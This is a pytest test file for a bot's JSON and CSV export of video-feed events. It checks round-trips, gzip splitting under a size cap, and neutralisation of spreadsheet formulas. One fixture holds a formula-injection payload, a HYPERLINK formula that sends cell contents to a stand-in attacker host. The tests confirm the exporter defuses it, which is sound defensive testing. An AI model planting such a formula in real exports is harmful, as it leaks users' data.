"""The documents of an export: right for programs, harmless in spreadsheets, and never larger than a bot may send."""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.errands.export_files import COLUMNS, SCHEMA, Csv, Document, Form, Json, safe
from core.model import Channel, DeliveryState, Destination, Event, EventKind, Feed, Video
from core.notify.copies import Copy
from storage.export import Exported, ToldIn

BOM = b"\xef\xbb\xbf"
LOUD = '=HYPERLINK("http://evil.example?"&A1;"look") 🎬'


def like(number: int, title: str | None = LOUD, *, told: bool = True) -> Exported:
    where = Copy(Destination(1, -1001234, 'My, "likes"\nhere'), 77)
    return Exported(
        number,
        Event(EventKind.LIKED, f"v{number}@5", f"v{number}", 5.0, 1_790_000_000.5),
        Feed.LIKES,
        Video(f"v{number}", title, "@channel", "UC1", 61),
        None,
        ToldIn(DeliveryState.SENT, where, 1_790_000_001.0, False) if told else None,
    )


LEFT = Exported(
    9, Event(EventKind.VANISHED, "UC2@1", "UC2", None, 7.0, {"why": "terminated"}), Feed.SUBSCRIPTIONS, None,
    Channel("UC2", "-1+1", "@two"), None,
)  # fmt: skip


def made(
    form: Form, folder: Path, events: list[Exported], *, full: int = 10**9, by: int = 2
) -> list[tuple[bytes, bool]]:
    """Every document, as it would be sent."""
    documents, rest, compressed = [], list(events), False
    while True:
        document = Document(form, folder, compressed=compressed, full=full)
        while rest and not document.is_full:
            document.add(rest[:by])
            del rest[:by]
        documents.append((document.end().read(), document.compressed))
        compressed = document.compressed
        document.close()
        if not rest:
            return documents


def test_a_program_reads_each_event_as_it_is(tmp_path: Path) -> None:
    [(whole, compressed)] = made(Json({"feed": "all"}), tmp_path, [like(1), LEFT, like(2, None, told=False)])

    read = json.loads(whole)
    assert (read["schema"], read["version"], read["feed"], read["count"], compressed) == (SCHEMA, 1, "all", 3, False)
    first, second, third = read["events"]
    assert first["video"]["title"] == LOUD
    assert first["seen_at"] == "2026-09-21T14:13:20Z"
    assert first["video"]["channel_url"] == "https://www.youtube.com/channel/UC1"
    assert (second["why"], second["channel"]["title"], second["told"]) == ("terminated", "-1+1", None)
    assert (third["video"]["title"], third["told"]) == (None, None)
    assert list(tmp_path.iterdir()) == []  # what it is written into has no name


def test_a_spreadsheet_reads_it_and_runs_none_of_it(tmp_path: Path) -> None:
    [(whole, _)] = made(Csv(), tmp_path, [like(1), LEFT])

    assert whole.startswith(BOM)
    head, first, second = csv.reader(io.StringIO(whole.decode("utf-8-sig"), newline=""))
    assert head == list(COLUMNS)
    assert first[COLUMNS.index("title")] == "'" + LOUD
    assert first[COLUMNS.index("channel")] == "'@channel"
    assert first[COLUMNS.index("told_in")] == 'My, "likes"\nhere'
    assert first[COLUMNS.index("seen_at_utc")] == "2026-09-21 14:13:20"
    assert (second[COLUMNS.index("title")], second[COLUMNS.index("why")]) == ("'-1+1", "terminated")


@given(st.text())
def test_no_text_begins_like_a_formula(text: str) -> None:
    cell = str(safe(text))
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert not cell.startswith(("\t", "\r"))
    assert cell.removeprefix("'") == text.removeprefix("'") or cell == text


@given(st.lists(st.text(alphabet=st.characters(), max_size=12), max_size=4))
def test_any_title_is_read_back(titles: list[str]) -> None:
    """Without what no text may hold: control characters, half characters."""
    page = [like(number, title, told=False) for number, title in enumerate(titles)]
    form = Json({})
    read = json.loads(form.begin() + form.events(page, first=True) + form.end(len(page)))
    whole = {one["id"]: one["video"]["title"] for one in read["events"]}
    assert whole == {n: one.encode("utf-8", "replace").decode().replace("\x7f", "") for n, one in enumerate(titles)}
    lines = list(csv.reader(io.StringIO(Csv().events(page, first=True).decode(), newline="")))
    assert [len(one) for one in lines] == [len(COLUMNS)] * len(page)


@pytest.mark.parametrize("form", [Json({"feed": "all"}), Csv()])
def test_what_gets_too_large_is_compressed_and_then_cut_into_whole_documents(form: Form, tmp_path: Path) -> None:
    noise = random.Random(1)
    events = [like(number, noise.randbytes(200).hex()) for number in range(1500)]
    documents = made(form, tmp_path, events, full=100_000, by=20)

    assert len(documents) > 1
    assert all(
        compressed and len(whole) < 150_000 for whole, compressed in documents
    )  # zlib holds some back until its end
    found = []
    for whole, _ in documents:
        text = gzip.decompress(whole)
        if form.name == "json":
            read = json.loads(text)
            assert read["count"] == len(read["events"])
            found += [one["id"] for one in read["events"]]
        else:
            head, *lines = csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""))
            assert head == list(COLUMNS)
            found += [int(one[0]) for one in lines]
    assert found == list(range(1500))
